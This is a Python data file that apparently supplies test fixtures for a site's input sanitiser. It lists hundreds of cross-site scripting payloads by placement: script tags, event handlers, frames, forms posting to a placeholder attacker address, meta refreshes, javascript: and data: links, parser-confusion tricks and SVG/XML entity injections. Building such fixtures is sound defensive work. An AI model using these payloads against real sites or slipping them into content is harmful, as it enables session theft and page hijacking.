"""What a hostile contributor may write, as data: kinds of attack, each at one place of a site, each in ten variants that differ in kind.

In every text `@J` is the script that must never run, `@T` the name that it would set, `@A` an address of the attacker's.
"""

# A kind's name, the place that it is written to (see `attacked_site.py`), and its variants.
KINDS: dict[str, tuple[str, list[str]]] = {}

# HTML in an article: refused as it is, and held by the policy where `raw-html` is on.
KINDS["script elements"] = ("body", [
    "<script>@J</script>", "<SCRIPT>@J</sCrIpT>", "<script/src=@A/x.js></script>", "<script type=module>@J</script>",
    "<script\n>@J</script\n>", "<svg><script>@J</script></svg>", "<svg><script href=data:,@J /></svg>", "- item\n\n  <script>@J</script>",
    "> [!NOTE]\n> <script>@J</script>", "<script src=data:text/javascript,@J></script>",
])
KINDS["handlers"] = ("body", [
    "<img src=x onerror='@J'>", "<svg onload='@J'></svg>", "<details open ontoggle='@J'>x</details>", "<input autofocus onfocus='@J'>",
    "<video muted><source onerror='@J'></video>", "<p onclick='@J'>x</p>", "<p\nonmouseover\n=\n'@J'>x</p>", "<img/src='x'/onerror='@J'>",
    "<audio src=x onerror=\"&#116;op.@T=1\">", "<div onpointerover='@J' tabindex=0 onfocus='@J'>x</div>",
])
KINDS["frames"] = ("body", [
    "<iframe src=@A/f.html></iframe>", "<iframe srcdoc='<script>@J</script>'></iframe>", "<object data=@A/f.html></object>",
    "<embed src=@A/f.html>", "<iframe src='javascript:@J'></iframe>", "<object data='data:text/html,<script>@J</script>'></object>",
    "<frameset><frame src=@A/f.html></frameset>", "<iframe name=x></iframe><a href=@A/f.html target=x>x</a>",
    "<embed src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"@J\"/>'>",
    "<iframe src='jAvAsCrIpT&Tab;:@J'></iframe>",
])
KINDS["forms"] = ("body", [
    "<form action=@A/post><button>Go</button></form>", "<form><button formaction=@A/post>Go</button></form>",
    "<form action='javascript:@J'><button>Go</button></form>", "<form method=get action=@A/post><input name=pain></form>",
    "<form id=f></form><button form=f formaction=@A/post>Go</button>", "<form action=//@T.invalid/><input type=image src=x></form>",
    "<form action=@A/post target=_blank><input type=submit></form>", "<form method=dialog action=@A/post><button>Go</button></form>",
    "<isindex action=@A/post>", "<form action='data:text/html,<script>@J</script>'><button>Go</button></form>",
])
KINDS["base and meta"] = ("body", [
    "<base href=@A/>", "<base target=@T>", "<meta http-equiv=refresh content='0;url=@A/away'>",
    "<META HTTP-EQUIV='Refresh' CONTENT='0; @A/away'>", "<meta http-equiv='&#114;efresh' content='0;url=javascript:@J'>",
    "<meta http-equiv=set-cookie content='@T=1'>", "<meta http-equiv=content-security-policy content=\"default-src *\"><script>@J</script>",
    "<svg><base href=@A/></svg>", "<noscript><meta http-equiv=refresh content='0;url=@A/away'></noscript>",
    "<meta charset=utf-7>+ADw-script+AD4-@J+ADw-/script+AD4-",
])
KINDS["styles"] = ("body", [
    "<style>.callout{display:none!important}</style>", "<div style='position:fixed;inset:0;background:#fff;z-index:99'>@T</div>",
    "<link rel=stylesheet href=@A/x.css>", "<style>@import '@A/x.css';</style>", "<style>body{background:url(@A/b.png)}</style>",
    "<svg style='position:fixed;inset:0;width:100vw;height:100vh'><rect width=100% height=100% /></svg>",
    "<link rel=stylesheet href='data:text/css,*{display:none}'>", "<p style='background:url(@A/b.png)'>x</p>",
    "<svg><style>*{visibility:hidden!important}</style></svg>", "<style onload='@J'></style>",
])
KINDS["loads"] = ("body", [
    "<img src=@A/i.png alt=x>", "<video src=@A/v.mp4 autoplay muted></video>", "<audio src=@A/a.mp3 autoplay></audio>", "<link rel=preload as=script href=@A/x.js>",
    "<link rel=prefetch href=@A/p>", "<picture><source srcset=@A/i.png><img src=x alt=x></picture>", "<input type=image src=@A/i.png alt=x>",
    "<table background=@A/b.png><tr><td>x</table>", "<svg><image href=@A/i.png /></svg>", "<link rel=modulepreload href=@A/x.js>",
])
KINDS["misreadings"] = ("body", [
    "<noscript><p title='</noscript><img src=x onerror=@J>'></noscript>", "<svg><style><img src=x onerror='@J'></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=@J&gt;'>", "<textarea><img src=x onerror='@J'>",
    "<xmp><img src=x onerror='@J'></xmp>", "<select><img src=x onerror='@J'></select>", "<![CDATA[<img src=x onerror='@J'>]]>",
    "<?x <img src=x onerror='@J'>?>", "<template><script>@J</script></template>", "<plaintext><img src=x onerror='@J'>",
])
# Markdown that becomes HTML.
KINDS["comments"] = ("body", [
    "<!--><script>@J</script>-->", "<!---><script>@J</script>-->", "<!-- --!><script>@J</script> -->", "<!-- a --><script>@J</script>",
    "<!-- <!-- --> <img src=x onerror=@J> -->", "a <!--> <img src=x onerror=@J> --> b", "<!-- `-->` <img src=x onerror=@J>",
    "<!--\n\n--><img src=x onerror=@J>", "- <!-- a\n- --> <img src=x onerror=@J>", "<!@T <img src=x onerror=@J>>",
])
KINDS["script links"] = ("body", [
    "[x](javascript:@J)", "[x](JaVaScRiPt:@J)", "[x](<java\tscript:@J>)", "[x](&#106;avascript:@J)", "[x](javascript&colon;@J)",
    "[x](<\x01javascript:@J>)", "<javascript:@J>", "[x][r]\n\n[r]: javascript:@J", "[x](javascript:%0A@J)", "[x](\\javascript:@J)",
])
KINDS["other schemes"] = ("body", [
    "[x](data:text/html,<script>@J</script>)", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:@J)", "[x](view-source:@A/)",
    "[x](blob:@A/1)", "[x](feed:javascript:@J)", "[x](jar:@A/x.jar!/y.html)", "[x](filesystem:@A/x)", "[x](data:image/svg+xml,@T)", "[x](about:@T)",
])
KINDS["out of an address"] = ("body", [
    "[x](https://a.example/\"onmouseover=\"@J)", "<https://a.example/\"onclick=\"@J>", "[x](<https://a.example/' onclick='@J>)",
    "[x](https://a.example \"\\\" onclick=@J \\\"\")", "[x](https://a.example '\"><img src=x onerror=@J>')", "[x](https://a.example/`onclick=@J`)",
    "[x](https://a.example/&quot;onclick=&quot;@J)", "[x](https://a.example/%22onclick=@J)", "[x](//a.example/@T)", "[x](https:\\\\a.example\\@T)",
])
KINDS["pictures"] = ("body", [
    "![\" onerror=\"@J](map.svg)", "![x](map.svg \"\\\" onload=\\\"@J\")", "![x](javascript:@J)", "![x](data:image/svg+xml,<svg onload=@J>)",
    "![x](@A/i.png)", "![<img src=x onerror=@J>](map.svg)", "![&quot;onerror=@J](map.svg)", "![x](map.svg?\"onerror=\"@J)",
    "![x](map.svg '<script>@J</script>')", "![x @T](map.svg#\"onload=@J)",
])
KINDS["headings"] = ("body", [
    "## \\<script>@J\\</script>", "## \"onclick=@J", "## `<script>@J</script>`", "## &lt;img src=x onerror=@J&gt;", "## __proto__ @T", "## location\n\n@T",
    "## cookie\n\n@T", "## site main\n\n@T", "## *\"\\>\\<svg onload=@J>*", "## document\n\n[@T](#document)",
])
KINDS["callouts"] = ("body", [
    "> [!WARNING] \\<script>@J\\</script>\n> x", "> [!NOTE] \"onclick=@J\n> x", "> [!EMERGENCY] \\<img src=x onerror=@J>", "> [!\" onclick=@J]\n> x",
    "> [!TIP] `</div><script>@J</script>`\n> x", "> [!NOTE] [x](javascript:@J)\n> x", "> [!CAUTION] ![x](@A/i.png)\n> x", "> [!NOTE]\n> [x]: javascript:@J\n>\n> [x]",
    "> [!WARNING] &lt;/div&gt;&lt;script&gt;@J&lt;/script&gt;\n> x", "> [!IMPORTANT] x\n> > [!NOTE] \"><img src=x onerror=@J>",
])
KINDS["tables and notes"] = ("body", [
    "| a |\n|---|\n| <script>@J</script> |", "| a |\n|---|\n| [x](javascript:@J) |", "| \\<img src=x onerror=@J> |\n|---|\n| x |", "| a |\n|:-\"onclick=@J-:|\n| x |",
    "| a |\n|---|\n| `\\|<script>@J</script>` |", "x[^\"onclick=@J]\n\n[^\"onclick=@J]: y", "x[^a]\n\n[^a]: [y](javascript:@J)", "x[^a]\n\n[^a]: <img src=x onerror=@J>",
    "x[^<script>@J</script>]\n\n[^<script>@J</script>]: y", "x[^a]\n\n[^a]: \\<script>@J\\</script>",
])
KINDS["citations"] = ("body", [
    "x [@work, p. \"onclick=@J]", "x [@work, \\<script>@J\\</script>]", "x [@\"onclick=@J]", "x [@work; @<script>@J</script>]", "x [@work, [y](javascript:@J)]",
    "x [@work, `<img src=x onerror=@J>`]", "x [@work, &lt;script&gt;@J&lt;/script&gt;]", "x [@__proto__]\n\n@T", "x [@work, ![y](@A/i.png)]", "x [@work, p. 3'onclick='@J]",
])
KINDS["code"] = ("body", [
    "```\"onclick=\"@J\nx\n```", "```<script>@J</script>\nx\n```", "~~~ \"><img src=x onerror=@J>\nx\n~~~", "```\n</code></pre><script>@J</script>\n```",
    "    </code><script>@J</script>", "`</code><img src=x onerror=@J>`", "```&quot;onclick=@J\nx\n```", "```js\\\"onclick=@J\nx\n```", "`` ` <svg onload=@J> ``",
    "```mermaid\nclick A \"javascript:@J\"\n```",
])
KINDS["definitions"] = ("body", [
    "[x]\n\n[x]: <javascript:@J>", "[x]\n\n[x]: https://a.example '\" onclick=\"@J'", "[\"onclick=@J]\n\n[\"onclick=@J]: https://a.example", "[x][]\n\n[x]: data:text/html,@J",
    "[x]\n\n[x]: @A/\"onclick=@J", "![x]\n\n[x]: javascript:@J 'y'", "[x]\n\n[x]: <> \"<script>@J</script>\"", "[<b>]\n\n[<b>]: vbscript:@J",
    "[x]\n\n[X]: java&#x09;script:@J", "[x]\n\n[x]:\njavascript:@J\n'y'",
])

# The same ten ways out of wherever a text is shown: an element, both quotes, the title, a script of data, a comment in one, a template, the
# feed's XML, what is decoded twice, and what JavaScript takes for the end of a line.
TEXTS = [
    "<script>@J</script>", "\"><img src=x onerror=@J>", "' onmouseover='@J' autofocus onfocus='@J", "</title></head><body onload=@J>", "</script><script>@J</script>",
    "<!--<script>@T", "{{{site.name}}}{{=<% %>=}}@T<%& x %>", "]]><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">@J</x:script>",
    "&lt;img src=x onerror=@J&gt;\\u003cscript\\u003e@J", "\u2028\u2029\";@J//\\",
]
for place in ["title", "summary", "name", "review", "change", "words", "alt", "note", "flag", "why", "work", "care", "question", "answer", "advice",
              "site-name", "site-description", "param", "kind-title", "kind-summary", "phone", "street"]:  # fmt: skip
    KINDS[f"text: {place}"] = (place, TEXTS)

KINDS["old addresses"] = ("redirect", [
    "/\"><script>@J</script>/", "//@T.invalid/", "/\\\\@T.invalid/", "/x/?q=<script>@J</script>", "javascript:@J", "/@T/\n/*\n  X-@T: 1", "/@T%0d%0aSet-Cookie: a=1/",
    "/@T/../../../@T/", "/'onclick='@J/", "/@T/\u2028/",
])
KINDS["url fields"] = ("link", [
    "javascript:@J", "JAVASCRIPT:@J", " javascript:@J", "java\nscript:@J", "data:text/html,<script>@J</script>", "https://a.example/\"onclick=\"@J", "vbscript:@J",
    "//@T.invalid/", "https://@T.invalid@a.example/'onclick='@J", "tel:\"onclick=@J",
])
KINDS["the clinic's addresses"] = ("booking", [
    "javascript:@J", "https://a.example/\"><script>@J</script>", "data:text/html,@J", "https:javascript:@J", "https://a.example/'onmouseover='@J", "jAvAsCrIpT:@J",
    "\tjavascript:@J", "https://a.example/</script><script>@J</script>", "//@T.invalid", "https://a.example/?{{@T}}",
])
KINDS["works' addresses"] = ("work-url", KINDS["the clinic's addresses"][1])

# A drawing, without the element around it; in a file beside the article, and in the checker's page.
DRAWINGS = [
    "<script>@J</script>", "<SCRIPT>@J</SCRIPT>", "<g onload='@J'/>", "<g\nonclick='@J'><rect width='9' height='9'/></g>", "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='@A/f'/></foreignObject>",
    "<a href='javascript:@J'><text y='9'>x</text></a>", "<image href='@A/i.png'/>", "<use href='data:image/svg+xml,@T'/>", "<animate attributeName='href' values='javascript:@J'/>",
    "<style>@import '@A/x.css';</style>",
]
KINDS["drawings"] = ("drawing", DRAWINGS)
KINDS["drawings in the checker"] = ("map", DRAWINGS)
MARKUP = [
    "<meta http-equiv='refresh' content='0;url=@A/away'/>", "</svg></div><h1>@T</h1><svg>", "<form action='@A/post'/>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>@J</x:script>",
    "<set attributeName='onmouseover' to='@J'/>", "<style>.a{background:url(@A/b.png)}</style>", "<rect fill='url(@A/x.svg#a)' width='9' height='9'/>", "<text y='9'>&lt;script&gt;@J&lt;/script&gt;</text>",
    "<title>\"&gt;&lt;img src=x onerror=@J&gt;</title>", "<handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>@J</handler>",
]
KINDS["markup in drawings"] = ("drawing", MARKUP)
KINDS["markup in the checker's drawing"] = ("map", MARKUP)
KINDS["XML of drawings"] = ("drawing-file", [
    "<?xml-stylesheet href='@A/x.css'?><svg xmlns='http://www.w3.org/2000/svg'/>", "<!DOCTYPE svg [<!ENTITY x '<script>@J</script>'>]><svg xmlns='http://www.w3.org/2000/svg'>&x;</svg>",
    "<!DOCTYPE svg [<!ATTLIST svg onload CDATA '@J'>]><svg xmlns='http://www.w3.org/2000/svg'/>", "<html xmlns='http://www.w3.org/1999/xhtml'><script>@J</script></html>",
    "<?xml version='1.0' encoding='utf-7'?><svg xmlns='http://www.w3.org/2000/svg'>+ADw-script+AD4-@J+ADw-/script+AD4-</svg>", "<svg xmlns='http://www.w3.org/2000/svg'><![CDATA[<script>@J</script>]]></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><!-- --><script>@J</script><!-- --></svg>", "<svg xmlns='http://www.w3.org/2000/svg' xmlns:s='http://www.w3.org/2000/svg'><s:script>@J</s:script></svg>",
    "<!DOCTYPE svg SYSTEM '@A/x.dtd'><svg xmlns='http://www.w3.org/2000/svg'/>", "<svg xmlns='http://www.w3.org/2000/svg' onload='&#116;op.@T=1'/>",
])
KINDS["downloads"] = ("download", [
    "html:<script>@J</script>", "xhtml:<html xmlns='http://www.w3.org/1999/xhtml'><script>@J</script></html>", "xml:<x:script xmlns:x='http://www.w3.org/1999/xhtml'>@J</x:script>",
    "htm:<img src=x onerror=@J>", "HTML:<script>@J</script>", "svgz:<svg xmlns='http://www.w3.org/2000/svg' onload='@J'/>", "pdf:<script>@J</script>", "txt:<script>@J</script>",
    "unknown:<script>@J</script>", "js:@J",
])
